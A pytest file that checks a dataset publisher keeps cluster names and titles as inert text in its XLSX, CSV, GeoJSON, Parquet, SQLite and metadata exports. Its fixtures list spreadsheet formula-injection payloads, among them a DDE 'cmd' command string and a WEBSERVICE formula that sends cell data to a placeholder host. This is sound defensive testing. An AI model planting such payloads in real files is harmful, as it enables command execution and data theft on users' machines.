"""Names that would be formulas, links, markup or code stay what they are: text."""

import csv
import json
import sqlite3
import zipfile
from contextlib import closing
from html.parser import HTMLParser
from itertools import product

import pyarrow.parquet as pq
import pytest

from hubrank.publishing.publish import publish_downloads
from proof import PROOF
from publishing.hostile import HOSTILE, MARKS
from publishing.small_editions import named

SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "＠")
CALLS = (
    *("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example","x")', "A1", "2", "-3", "1e5"),
    *(
        'WEBSERVICE("http://a.example/"&A1)',
        "IMPORTXML(A1)",
        "DDE(1)",
        "{=1}",
        "http://a.example",
        "mailto:a@b.example",
    ),
    *("'Sheet'!A1", "[x.xlsx]S!A1", "NOW()", "RAND()", "INDIRECT(A2)", "#REF!", "TRUE", "1/0", '"a"&"b"', "@SUM(1)"),
)
BARE = ("http://a.example/?", "https://b.example/", "mailto:c@d.example", "ftp://e.example/", "internal:Ranking!A1")
FORMULAS = [f"{sign}{call}{more}" for more in ("", " ", "z") for sign, call in product(SIGNS, CALLS)][:470]
FORMULAS += [f"{start}{number}" for start in BARE for number in range(6)]
DIAGONAL = [HOSTILE[row * len(MARKS) + row % len(MARKS)] for row in range(len(HOSTILE) // len(MARKS))]  # each text once


def test_there_are_as_many_as_promised():
    assert len(set(FORMULAS)) == 500
    assert len(set(HOSTILE)) == 200


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    publish_downloads(folder, *named(FORMULAS + HOSTILE, title=HOSTILE[11]))
    return folder


def test_no_name_becomes_a_formula_or_a_link_in_the_workbook(hostile_folder):
    with zipfile.ZipFile(hostile_folder / "ranking.xlsx") as book:
        assert not [name for name in book.namelist() if "externalLink" in name]
        for name in book.namelist():
            content = book.read(name)
            if name.startswith("xl/worksheets"):
                assert b"<f>" not in content
                assert b"hyperlink" not in content.lower()


def test_names_of_the_workbook_are_those_of_the_tables(hostile_folder):
    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl reads the workbook back")
    book = openpyxl.load_workbook(hostile_folder / "ranking.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    for sheet, column in (("Ranking", "C"), ("Profiles", "G")):
        # openpyxl leaves the file format's way to write a carriage return as it is
        assert [cell.value.replace("_x000D_", "\r") for cell in book[sheet][column][1:]] == FORMULAS + HOSTILE


def test_no_text_of_the_spreadsheet_csv_starts_like_a_formula(hostile_folder):
    with (hostile_folder / "ranking-spreadsheet.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert (hostile_folder / "ranking-spreadsheet.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert not [row["cluster"] for row in rows if row["cluster"][0] in "=+-@\t\r\n＝＋－＠"]
    for row, name in zip(rows, FORMULAS + HOSTILE, strict=True):
        assert row["cluster"] in (name, f"'{name}")
    assert {row["change"] for row in rows} == {"-3"}


def test_names_survive_as_text_in_the_other_files(hostile_folder):
    names = FORMULAS + HOSTILE
    with (hostile_folder / "ranking.csv").open(encoding="utf-8", newline="") as file:
        assert [row["cluster"] for row in csv.DictReader(file)] == names
    features = json.loads((hostile_folder / "clusters.geojson").read_text("utf-8"))["features"]
    assert [feature["properties"]["cluster"] for feature in features] == names
    assert pq.read_table(hostile_folder / "clusters.geoparquet")["cluster"].to_pylist() == names
    with closing(sqlite3.connect(hostile_folder / "edition.sqlite")) as base:
        assert [row[0] for row in base.execute("SELECT cluster FROM ranking ORDER BY rank")] == names
        assert {row[0] for row in base.execute("SELECT name FROM profiles")} == set(names)


class Page(HTMLParser):
    """Collects the elements of a page and the text of its first script."""

    def __init__(self):
        super().__init__()
        self.elements, self.script = [], ""

    def handle_starttag(self, tag, attrs):  # noqa: ARG002 (the parser's signature)
        self.elements.append(tag)

    def handle_data(self, data):
        self.script += data


@pytest.mark.parametrize("title", HOSTILE if PROOF else DIAGONAL)
def test_a_title_survives_in_catalogues_and_ends_no_script(title, tmp_path):
    yaml = pytest.importorskip("yaml", reason="pyyaml reads the citation back")
    publish_downloads(tmp_path, *named(["Paris"], title=title))
    text = (tmp_path / "dataset.jsonld").read_text("utf-8")
    page = Page()
    page.feed(f'<script type="application/ld+json">{text}</script>')
    assert page.elements == ["script"]
    assert json.loads(page.script)["name"] == title
    assert not {"\u2028", "\u2029", "<"} & set(text)
    assert json.loads((tmp_path / "datapackage.json").read_text("utf-8"))["title"] == title
    assert json.loads((tmp_path / "dcat.jsonld").read_text("utf-8"))["dct:title"] == title
    crate = json.loads((tmp_path / "ro-crate-metadata.json").read_text("utf-8"))
    assert crate["@graph"][1]["name"] == title
    cited = yaml.safe_load((tmp_path / "CITATION.cff").read_text("utf-8"))
    assert (cited["title"], cited["type"], cited["cff-version"]) == (title, "dataset", "1.2.0")
